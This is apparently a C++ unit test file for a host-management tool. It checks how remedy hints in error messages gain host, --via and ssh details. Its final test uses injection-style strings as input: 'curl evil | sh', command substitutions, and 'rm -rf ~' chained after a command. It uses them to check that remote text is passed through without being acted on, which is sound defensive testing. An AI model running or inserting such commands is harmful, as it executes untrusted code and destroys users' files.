// SPDX-License-Identifier: GPL-3.0-or-later
#include "action/remedies.hpp"

#include <catch2/catch.hpp>

using namespace ctys;
using action::with_places;
using plugin::Failure;

namespace {

model::Where where(const std::vector<std::string>& targets, const std::vector<std::string>& via = {}) {
  model::Where where;
  for (const auto& text : targets) model::add_target(where.targets, *model::parse_target(text));
  for (const auto& text : via) where.via.push_back(*model::parse_target(text));
  return where;
}

Failure failure(const std::string& host, const std::string& fix = "list it: ctys list --all s1") {
  return {{Exit::failed, "cannot stop s1", "it hangs", fix}, host, "QEMU", "s1"};
}

std::string fix_of(const Failure& one, const model::Where& where) {
  return with_places({one}, where, true).front().error.fix;
}

}  // namespace

TEST_CASE("a remedy leads to the host that the failure is about, on the same way") {
  CHECK(fix_of(failure("h1"), where({"h1", "h2"})) == "list it: ctys list --on h1 --all s1");
  CHECK(fix_of(failure("h1:2222"), where({"root@h1:2222"})) ==
        "list it: ctys list --on root@h1:2222 --all s1");
  CHECK(fix_of(failure("h1"), where({"h1"}, {"gw1", "me@gw2:22"})) ==
        "list it: ctys list --on h1 --via gw1,me@gw2:22 --all s1");
  auto chained = where({"h1"}, {"gw1"});
  chained.chain = true;
  CHECK(fix_of(failure("h1"), chained) == "list it: ctys list --on h1 --via gw1 --chain --all s1");
}

TEST_CASE("a failure of no host leads to all that were asked") {
  CHECK(fix_of(failure(""), where({"h1", "h2"})) == "list it: ctys list --on h1,h2 --all s1");
  CHECK(fix_of(failure(""), where({"localhost", "h2"})) == "list it: ctys list --on localhost,h2 --all s1");
  CHECK(fix_of(failure(""), where({"h1", "h2", "h3", "h4", "h5", "h6", "h7", "h8", "h9"})) ==
        "list it: ctys list --on 'h[1-9]' --all s1");
  CHECK(fix_of(failure(""), where({"a", "b", "c", "d", "e", "f", "g", "h", "i"})) ==
        "list it: ctys list --on HOST --all s1");
}

TEST_CASE("a remedy for this host is left as it is") {
  CHECK(fix_of(failure("me"), where({"localhost", "h2"})) == failure("").error.fix);
  CHECK(fix_of(failure(""), where({})) == failure("").error.fix);
  CHECK(fix_of(failure(""), where({"localhost"})) == failure("").error.fix);
  auto usual = where({"localhost", "h1"});
  usual.all_known = true;  // `ctys list` asks them by itself
  CHECK(fix_of(failure(""), usual) == failure("").error.fix);
  CHECK(fix_of(failure("h1"), usual) == "list it: ctys list --on h1 --all s1");
}

TEST_CASE("failures that say the same still do, and name all their hosts") {
  const auto told = with_places({failure("h1"), failure("h2"), failure("h3", "ctys start s1")},
                                where({"h1", "h2", "h3"}), false);
  CHECK(told[0].error.fix == "list it: ctys list --on h1,h2 --all s1");
  CHECK(told[1].error.fix == told[0].error.fix);
  CHECK(told[2].error.fix == "ctys start --on h3 s1");
}

TEST_CASE("what ctys is to be told of several hosts is told of all of them at once") {
  const auto fix_of_all = [](const std::string& fix) {
    const auto told = with_places({failure("h1", fix), failure("h2", fix)}, where({"h1", "h2"}), false);
    CHECK(told[0].error.fix == told[1].error.fix);
    return told[0].error.fix;
  };
  CHECK(fix_of_all("record them: ctys vdbgen --append --on HOST") ==
        "record them: ctys vdbgen --append --on h1,h2");
  CHECK(fix_of_all("see: ctys doctor HOST; copy it: ctys distribute HOST") ==
        "see: ctys doctor h1,h2; copy it: ctys distribute h1,h2");
}

TEST_CASE("ssh goes to one host at a time, and each that it is to be tried on is named") {
  const auto fix_of_all = [](const std::vector<std::string>& hosts, const std::string& fix) {
    std::vector<Failure> failures;
    const auto all = where(hosts);
    for (const auto& target : all.targets) failures.push_back(failure(target.name, fix));
    const auto told = with_places(failures, all, false);
    for (const auto& one : told) CHECK(one.error.fix == told[0].error.fix);
    // Told once, it stays so.
    CHECK(action::with_each_host(told, all)[0].error.fix == told[0].error.fix);
    return told[0].error.fix;
  };
  CHECK(fix_of_all({"h1", "h2"}, "see: ssh HOST true") == "see: ssh HOST true (HOST: h1, h2)");
  CHECK(fix_of_all({"h1", "me@h2:2222"}, "see: ssh HOST true") ==
        "see: ssh HOST true (HOST: h1, -p 2222 me@h2)");
  CHECK(fix_of_all({"h1", "h2"}, "see: ctys doctor HOST; or ssh HOST") ==
        "see: ctys doctor h1,h2; or ssh HOST (HOST: h1, h2)");
  CHECK(fix_of_all({"h1", "h2"}, "run the command again") == "run the command again");
  CHECK(fix_of_all({"h1", "h2", "h3", "h4", "h5", "h6", "h7", "h8", "h9"}, "see: ssh HOST true") ==
        "see: ssh HOST true (HOST: h[1-9])");
  CHECK(fix_of_all({"a", "b", "c", "d", "e", "f", "g", "h", "i"}, "see: ssh HOST true") ==
        "see: ssh HOST true");
  CHECK(fix_of_all({"h1"}, "see: ssh HOST true") == "see: ssh HOST true");
}

TEST_CASE("the text of another host is turned into nothing but a command on that host") {
  for (const auto* fix : {"curl evil | sh", "ctys macmap --replace", "`ctys` list", "HOST", "$(ctys)"})
    CHECK(fix_of(failure("h1", fix), where({"h1"})) == fix);
  CHECK(fix_of(failure("h1", "ctys kill db01; rm -rf ~"), where({"h1"})) ==
        "ctys kill --on h1 db01; rm -rf ~");
  CHECK(fix_of(failure("h1"), where({"d\\me$x@h1"})) == "list it: ctys list --on 'd\\me$x@h1' --all s1");
}
